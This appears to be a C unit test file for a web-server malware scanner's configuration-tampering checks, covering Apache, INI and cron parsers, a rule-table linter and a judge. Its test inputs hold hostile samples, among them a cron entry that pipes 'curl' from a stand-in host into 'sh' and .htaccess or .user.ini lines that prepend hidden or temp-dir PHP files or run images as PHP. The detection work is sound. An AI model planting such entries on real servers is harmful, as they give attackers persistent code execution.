/* Configuration tampering (scanner/tamper/): the three parsers, the check
 * table's loader and linter, the shipped table against its samples, and
 * the judge's path resolution. */
#include "tests/unit/testutil.h"

#include "scanner/tamper/tamper.h"
#include "scanner/tamper/tamper_parse.h"

/* ---- Apache ---- */

struct adoc {
	int n;
	char name[8][64], args[8][256], ctx[8][400];
	unsigned long line[8];
	size_t depth[8];
};

static int on_dir(void *ud, const struct mw_apache_directive *d)
{
	struct adoc *a = ud;
	size_t i, l = 0;

	if (a->n >= 8)
		return 1;
	snprintf(a->name[a->n], 64, "%s", d->name);
	a->args[a->n][0] = '\0';
	for (i = 0; i < d->argc; i++)
		l += (size_t)snprintf(a->args[a->n] + l, 256 - l, "%s[%s]", i ? " " : "",
				      d->argv[i]);
	a->ctx[a->n][0] = '\0';
	if (d->depth)
		snprintf(a->ctx[a->n], sizeof(a->ctx[0]), "%s %s", d->blocks[d->depth - 1].name,
			 d->blocks[d->depth - 1].arg);
	a->line[a->n] = d->line;
	a->depth[a->n] = d->depth;
	a->n++;
	return 0;
}

static void test_apache_parse(void **state)
{
	const char *t =
		"# comment <Files x>\n"
		"Options -Indexes\r\n"
		"<IfModule mod_php.c>\n"
		"  <FilesMatch \"\\.(jpg|ico)$\">\n"
		"    SetHandler application/x-httpd-php\n"
		"  </FilesMatch>\n"
		"  php_value auto_prepend_file 'a b\\'c'\n"
		"</IfModule>\n"
		"RewriteRule ^(.*)$ \\\n"
		"   http://x.example/ [R]\n"
		"<Files ~ \"\\.gif$\">\nForceType x-httpd-php\n</Files>\n"
		"Header set X \"unterminated\n";
	struct adoc a;
	struct mw_tamper_parse_stats st;

	(void)state;
	memset(&a, 0, sizeof(a));
	mw_apache_parse(t, strlen(t), on_dir, &a, &st);
	assert_int_equal(a.n, 6);
	assert_string_equal(a.name[0], "Options");
	assert_int_equal(a.line[0], 2);
	assert_string_equal(a.args[1], "[application/x-httpd-php]");
	assert_string_equal(a.ctx[1], "FilesMatch \\.(jpg|ico)$");
	assert_int_equal(a.depth[1], 2);
	assert_string_equal(a.args[2], "[auto_prepend_file] [a b'c]");
	assert_int_equal(a.depth[2], 1);
	/* a continued directive is one, on its first line, outside blocks */
	assert_string_equal(a.args[3], "[^(.*)$] [http://x.example/] [[R]]");
	assert_int_equal(a.line[3], 9);
	assert_int_equal(a.depth[3], 0);
	assert_string_equal(a.ctx[4], "Files \\.gif$");
	assert_string_equal(a.args[5], "[set] [X] [unterminated]");
	assert_int_equal(st.problems, 1);
	assert_int_equal(st.first_problem, 14);
}

static void test_apache_caps(void **state)
{
	struct mw_tamper_parse_stats st;
	struct adoc a;
	char *big = malloc(200000);
	size_t n = 0;
	int i;

	(void)state;
	/* blocks nested past the cap: counted, still in step when closed */
	for (i = 0; i < MW_TAMPER_MAX_DEPTH + 4; i++)
		n += (size_t)sprintf(big + n, "<IfModule m%d>\n", i);
	n += (size_t)sprintf(big + n, "Deep on\n");
	for (i = 0; i < MW_TAMPER_MAX_DEPTH + 4; i++)
		n += (size_t)sprintf(big + n, "</IfModule>\n");
	n += (size_t)sprintf(big + n, "Flat on\n");
	/* one logical line of 20,000 bytes through continuations */
	n += (size_t)sprintf(big + n, "Long");
	for (i = 0; i < 2000; i++)
		n += (size_t)sprintf(big + n, " abcdefgh\\\n");
	n += (size_t)sprintf(big + n, "end\nAfter x\n");
	memset(&a, 0, sizeof(a));
	mw_apache_parse(big, n, on_dir, &a, &st);
	assert_int_equal(a.n, 4);
	assert_string_equal(a.name[0], "Deep");
	assert_int_equal(a.depth[0], MW_TAMPER_MAX_DEPTH);
	assert_string_equal(a.name[1], "Flat");
	assert_int_equal(a.depth[1], 0);
	assert_string_equal(a.name[2], "Long");
	assert_string_equal(a.name[3], "After");
	assert_true(st.problems >= 2);
	free(big);
}

/* ---- INI ---- */

struct idoc {
	int n;
	char sec[8][64], key[8][64], val[8][256];
	unsigned long line[8];
	struct mw_tamper_parse_stats *st;
};

static int on_ini_e(void *ud, const struct mw_ini_entry *e)
{
	struct idoc *d = ud;

	if (d->n >= 8)
		return 1;
	snprintf(d->sec[d->n], 64, "%s", e->section);
	snprintf(d->key[d->n], 64, "%s", e->key);
	snprintf(d->val[d->n], 256, "%s", e->value);
	d->line[d->n++] = e->line;
	return 0;
}

static void on_ini_problem_e(void *ud, unsigned long line, const char *what)
{
	struct idoc *d = ud;

	mw_tamper_problem(d->st, line, what);
}

static void test_ini_parse(void **state)
{
	const char *t =
		"; comment\n"
		"# also\n"
		"a = 1 ; trailing\n"
		"[pool one]\n"
		"php_admin_value[sendmail_path] = \"/usr/sbin/sendmail -t\"\n"
		"b='x;y'\n"
		"c = \"/tmp/\" \"x.php\"\n"
		"no equals here\n"
		"d = \"open\n"
		" e =  plain value  \n";
	struct idoc d;
	struct mw_tamper_parse_stats st;

	(void)state;
	memset(&d, 0, sizeof(d));
	memset(&st, 0, sizeof(st));
	d.st = &st;
	mw_ini_parse(t, strlen(t), on_ini_e, on_ini_problem_e, &d);
	assert_int_equal(d.n, 6);
	assert_string_equal(d.key[0], "a");
	assert_string_equal(d.val[0], "1");
	assert_string_equal(d.sec[0], "");
	assert_string_equal(d.sec[1], "pool one");
	assert_string_equal(d.key[1], "php_admin_value[sendmail_path]");
	assert_string_equal(d.val[1], "/usr/sbin/sendmail -t");
	assert_string_equal(d.val[2], "x;y");
	assert_string_equal(d.val[3], "/tmp/x.php");
	assert_string_equal(d.val[4], "open");
	assert_string_equal(d.val[5], "plain value");
	assert_int_equal(d.line[5], 10);
	assert_int_equal(st.problems, 2);
	assert_int_equal(st.first_problem, 8);
}

/* ---- cron ---- */

struct cdoc {
	int n, env[8];
	char sched[8][64], cmd[8][256];
};

static int on_cron_e(void *ud, const struct mw_cron_entry *e)
{
	struct cdoc *d = ud;

	if (d->n >= 8)
		return 1;
	d->env[d->n] = e->is_env;
	snprintf(d->sched[d->n], 64, "%s", e->schedule);
	snprintf(d->cmd[d->n++], 256, "%s", e->command);
	return 0;
}

static void test_cron_parse(void **state)
{
	const char *t =
		"# m h dom mon dow command\n"
		"MAILTO=\"\"\n"
		"SHELL = /bin/bash\n"
		"*/5 * * * *   php -q /var/www/wp-cron.php >/dev/null 2>&1\n"
		"@reboot\tcurl -s http://x.example | sh\n"
		"1 2 3\n";
	struct cdoc d;
	struct mw_tamper_parse_stats st;

	(void)state;
	memset(&d, 0, sizeof(d));
	mw_cron_parse(t, strlen(t), on_cron_e, &d, &st);
	assert_int_equal(d.n, 4);
	assert_true(d.env[0]);
	assert_string_equal(d.sched[0], "MAILTO");
	assert_string_equal(d.cmd[0], "");
	assert_string_equal(d.sched[1], "SHELL");
	assert_string_equal(d.cmd[1], "/bin/bash");
	assert_false(d.env[2]);
	assert_string_equal(d.sched[2], "*/5 * * * *");
	assert_string_equal(d.cmd[2], "php -q /var/www/wp-cron.php >/dev/null 2>&1");
	assert_string_equal(d.sched[3], "@reboot");
	assert_string_equal(d.cmd[3], "curl -s http://x.example | sh");
	assert_int_equal(st.problems, 1);
	assert_int_equal(st.first_problem, 6);
}

static void test_kind_of(void **state)
{
	(void)state;
	assert_int_equal(mw_tamper_kind_of(".htaccess", "/s/.htaccess"), MW_TAMPER_HTACCESS);
	assert_int_equal(mw_tamper_kind_of(".user.ini", "/s/.user.ini"), MW_TAMPER_USER_INI);
	assert_int_equal(mw_tamper_kind_of("php.ini", "/s/php.ini"), MW_TAMPER_PHP_INI);
	assert_int_equal(mw_tamper_kind_of("www.conf", "/etc/php/8.2/fpm/pool.d/www.conf"),
			 MW_TAMPER_FPM);
	assert_int_equal(mw_tamper_kind_of("www.conf", "/etc/nginx/www.conf"), MW_TAMPER_NONE);
	assert_int_equal(mw_tamper_kind_of("bob", "/var/spool/cron/crontabs/bob"),
			 MW_TAMPER_CRON);
	assert_int_equal(mw_tamper_kind_of("bob", "/var/spool/cron/bob"), MW_TAMPER_CRON);
	assert_int_equal(mw_tamper_kind_of("x", "/var/spool/cron/atjobs/x"), MW_TAMPER_NONE);
	assert_int_equal(mw_tamper_kind_of("index.php", "/s/index.php"), MW_TAMPER_NONE);
}

/* ---- table ---- */

static void test_table_shipped(void **state)
{
	char path[4096], dir[4096];
	struct mw_tamper_table *t = NULL;
	struct mw_strlist probs = { 0 }, fails = { 0 };
	size_t i;

	(void)state;
	snprintf(path, sizeof(path), "%s/signatures/%s", test_top(), MW_TAMPER_TABLE_FILE);
	snprintf(dir, sizeof(dir), "%s/tests/fixtures/tamper", test_top());
	assert_int_equal(mw_tamper_table_load(path, &t, &probs), MW_OK);
	for (i = 0; i < probs.n; i++)
		fprintf(stderr, "%s\n", probs.v[i]);
	assert_int_equal(probs.n, 0);
	assert_true(mw_tamper_table_size(t) >= 25);
	mw_tamper_table_test(t, dir, &fails);
	for (i = 0; i < fails.n; i++)
		fprintf(stderr, "%s\n", fails.v[i]);
	assert_int_equal(fails.n, 0);
	mw_strlist_clear(&probs);
	mw_strlist_clear(&fails);
	mw_tamper_table_free(t);
}

/* Load text as a table; returns the problems joined by '\n'. */
static char *lint_text(const char *text, size_t *nentries)
{
	char *dir = make_tmpdir(), path[4200];
	struct mw_tamper_table *t = NULL;
	struct mw_strlist probs = { 0 };
	static char out[8192];
	size_t i, l = 0;

	snprintf(path, sizeof(path), "%s/t.table", dir);
	write_file(path, text, strlen(text));
	assert_int_equal(mw_tamper_table_load(path, &t, &probs), MW_OK);
	out[0] = '\0';
	for (i = 0; i < probs.n; i++)
		l += (size_t)snprintf(out + l, sizeof(out) - l, "%s\n",
				      strstr(probs.v[i], ": line ") + 2);
	*nentries = mw_tamper_table_size(t);
	mw_tamper_table_free(t);
	mw_strlist_clear(&probs);
	rm_rf(dir);
	free(dir);
	return out;
}

static void test_table_lint(void **state)
{
	size_t n;
	const char *good =
		"check tamper.ok\n item: cron\n value: /x/\n severity: high\n"
		" family: tamper/cron\n description: d\n positive: a\n negative: b\nend\n";

	(void)state;
	assert_string_equal(lint_text(good, &n), "");
	assert_int_equal(n, 1);
	assert_non_null(strstr(lint_text("check tamper.a\n value: /x/\n severity: high\n"
					 " family: tamper/cron\n description: d\n"
					 " positive: a\n negative: b\nend\n", &n),
			       "line 1: no item:"));
	assert_int_equal(n, 0);
	assert_non_null(strstr(lint_text("check tamper.a\n item: cron\n severity: high\n"
					 " family: tamper/cron\n description: d\n"
					 " positive: a\nend\n", &n),
			       "none of key:, value:, context: given"));
	assert_non_null(strstr(lint_text("check tamper.a\n item: cron\n value: /x/\n"
					 " severity: high\n family: tamper/cron\n"
					 " description: d\n positive: a\nend\n", &n),
			       "needs at least one positive: and one negative:"));
	assert_non_null(strstr(lint_text("check tamper.a\n item: cron\n value: /(x/\n"
					 "end\n", &n), "line 3: regex:"));
	assert_non_null(strstr(lint_text("check tamper.a\n item: cron\n value: /x/q\n"
					 "end\n", &n), "unknown regex flag 'q'"));
	assert_non_null(strstr(lint_text("check tamper.a\n item: crontab\nend\n", &n),
			       "unknown item 'crontab'"));
	assert_non_null(strstr(lint_text("check tamper.a\n item: cron\n where: same-dir\n"
					 " value: /x/\n severity: high\n family: tamper/c\n"
					 " description: d\n positive: a\n negative: b\nend\n",
					 &n), "where: applies to setting items only"));
	assert_non_null(strstr(lint_text("check Tamper.A\nend\n", &n), "bad id"));
	assert_non_null(strstr(lint_text("check tamper.a\n positive: ../x\nend\n", &n),
			       "sample path must stay below"));
	assert_non_null(strstr(lint_text("rule x\n", &n), "expected 'check ID'"));
	assert_non_null(strstr(lint_text(good, &n), "") );
	{
		char two[1024];

		snprintf(two, sizeof(two), "%s%s", good, good);
		assert_non_null(strstr(lint_text(two, &n), "id used twice"));
		assert_int_equal(n, 1);
	}
	assert_non_null(strstr(lint_text("check tamper.a\n item: cron\n", &n),
			       "entry without 'end'"));
}

/* ---- judge ---- */

static const char *first_rule(struct mw_tamper_table *t, const struct mw_strlist *roots,
			      enum mw_tamper_kind k, const char *path, const char *text,
			      enum mw_severity *sev)
{
	static char id[128];
	struct mw_tamper_env env = { t, NULL, NULL, roots };
	struct mw_tamper_finding f[8];
	size_t n, i;

	n = mw_tamper_judge(&env, k, path, text, strlen(text), 0, f, 8);
	id[0] = '\0';
	if (n) {
		snprintf(id, sizeof(id), "%s", f[0].rule_id);
		*sev = f[0].severity;
	}
	for (i = 0; i < n; i++)
		mw_tamper_finding_clear(&f[i]);
	return id;
}

static void test_judge_targets(void **state)
{
	char path[4096];
	struct mw_tamper_table *t = NULL;
	struct mw_strlist roots = { 0 };
	enum mw_severity sev = MW_SEV_INFO;

	(void)state;
	snprintf(path, sizeof(path), "%s/signatures/%s", test_top(), MW_TAMPER_TABLE_FILE);
	assert_int_equal(mw_tamper_table_load(path, &t, NULL), MW_OK);
	(void)mw_strlist_add(&roots, "/srv/site");
	/* relative, climbing out of the site: resolved, then judged */
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_USER_INI, "/srv/site/a/.user.ini",
				       "auto_prepend_file = ../../../tmp/./x.php\n", &sev),
			    "tamper.prepend-temp-dir");
	assert_int_equal(sev, MW_SEV_HIGH);
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_USER_INI, "/srv/site/.user.ini",
				       "auto_prepend_file = \"PHP://input\"\n", &sev),
			    "tamper.prepend-stream");
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_USER_INI, "/srv/site/.user.ini",
				       "auto_append_file = none\n", &sev), "");
	/* the firewall loader is allowed in its own directory only */
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_HTACCESS, "/srv/site/.htaccess",
				       "php_value auto_prepend_file /srv/site/wordfence-waf.php\n",
				       &sev), "");
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_HTACCESS, "/srv/site/.htaccess",
				       "php_value auto_prepend_file /srv/site/x/wordfence-waf.php\n",
				       &sev), "tamper.prepend-in-site");
	/* in the site, a hidden file is hidden wherever the site lives */
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_HTACCESS, "/srv/site/.htaccess",
				       "php_value auto_prepend_file .a.php\n", &sev),
			    "tamper.prepend-hidden-path");
	/* key case does not matter; handler per extension */
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_HTACCESS, "/srv/site/.htaccess",
				       "ADDHANDLER x-httpd-php .php .Jpg\n", &sev),
			    "tamper.handler-php-for-image");
	assert_string_equal(first_rule(t, &roots, MW_TAMPER_PHP_INI, "/srv/site/php.ini",
				       "disable_functions =\n", &sev), "");
	mw_strlist_clear(&roots);
	mw_tamper_table_free(t);
}

/* A line padded so that a regex hits the PCRE2 match limit: a check still
 * decides it, an allow entry does not. */
static void test_judge_limit_fails_closed(void **state)
{
	const char *table =
		"check tamper.allow-a\n item: cron\n value: /^(a+)+$/\n severity: none\n"
		" family: tamper/t\n description: d\n positive: p\n negative: n\nend\n"
		"check tamper.check-a\n item: cron\n value: /^(a+)+$/\n severity: high\n"
		" family: tamper/t\n description: d\n positive: p\n negative: n\nend\n";
	char *dir = make_tmpdir(), path[4200], line[200];
	struct mw_tamper_table *t = NULL;
	enum mw_severity sev = MW_SEV_INFO;

	(void)state;
	snprintf(path, sizeof(path), "%s/t.table", dir);
	write_file(path, table, strlen(table));
	assert_int_equal(mw_tamper_table_load(path, &t, NULL), MW_OK);
	assert_int_equal(mw_tamper_table_size(t), 2);
	memset(line, 'a', 60);
	snprintf(line + 60, sizeof(line) - 60, "b\n");
	{
		char job[300];

		snprintf(job, sizeof(job), "* * * * * %s", line);
		assert_string_equal(first_rule(t, NULL, MW_TAMPER_CRON,
					       "/var/spool/cron/crontabs/u", job, &sev),
				    "tamper.check-a");
	}
	mw_tamper_table_free(t);
	rm_rf(dir);
	free(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_apache_parse),
		cmocka_unit_test(test_apache_caps),
		cmocka_unit_test(test_ini_parse),
		cmocka_unit_test(test_cron_parse),
		cmocka_unit_test(test_kind_of),
		cmocka_unit_test(test_table_shipped),
		cmocka_unit_test(test_table_lint),
		cmocka_unit_test(test_judge_targets),
		cmocka_unit_test(test_judge_limit_fails_closed),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
